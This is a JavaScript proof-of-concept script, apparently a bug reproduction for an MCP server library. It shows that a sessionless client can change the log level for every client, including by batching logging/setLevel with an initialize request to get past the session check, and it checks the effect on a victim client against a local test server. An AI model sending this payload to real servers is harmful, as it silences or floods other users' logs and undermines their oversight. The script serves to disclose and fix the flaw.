// logging/setLevel from a client with no session silences (or floods) every client's logs: over
// stateless HTTP (documented as the server's level), and WITH sessions too, through a batch that
// carries `initialize` (the only sessionless 2025 POST the sessions handler lets through).
//   node repro/mcp-hostile2/setlevel-everyone.mjs
import * as E from "fp-ts/lib/Either.js";
import { tool } from "../../dist/esm/mcp.js";
import { makeMcp, serve } from "./common.mjs";

const chatty = tool({
  description: "logs at info",
  run: (_args, ctx) => {
    ctx.log("info", "an info line");
    return E.right("done");
  },
});
const init = (id) => ({
  jsonrpc: "2.0",
  id,
  method: "initialize",
  params: { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "c", version: "1" } },
});
const post = async (port, body, session) => {
  const r = await fetch(`http://127.0.0.1:${port}/mcp`, {
    method: "POST",
    headers: {
      "Content-Type": "application/json",
      Accept: "application/json, text/event-stream",
      "MCP-Protocol-Version": "2025-11-25",
      ...(session ? { "Mcp-Session-Id": session } : {}),
    },
    body: JSON.stringify(body),
  });
  return { session: r.headers.get("mcp-session-id"), text: await r.text() };
};
const call = { jsonrpc: "2.0", id: 9, method: "tools/call", params: { name: "chatty", arguments: {} } };
const hears = (text) => text.includes("an info line");

for (const sessions of [false, true]) {
  const mcp = makeMcp({ tools: { chatty } });
  const { server, port } = await serve(mcp, { sessions });
  const victim = sessions ? (await post(port, init(1))).session : undefined;
  const before = hears((await post(port, call, victim)).text);
  // The attacker: no session of its own needed.
  const attack = sessions
    ? [init(1), { jsonrpc: "2.0", id: 2, method: "logging/setLevel", params: { level: "emergency" } }]
    : { jsonrpc: "2.0", id: 2, method: "logging/setLevel", params: { level: "emergency" } };
  const attacked = await post(port, attack);
  const after = hears((await post(port, call, victim)).text);
  console.log(
    JSON.stringify({
      sessions,
      victimHeardInfoBefore: before,
      attackAnswer: attacked.text.slice(0, 120),
      victimHeardInfoAfter: after,
    }),
  );
  server.close();
}
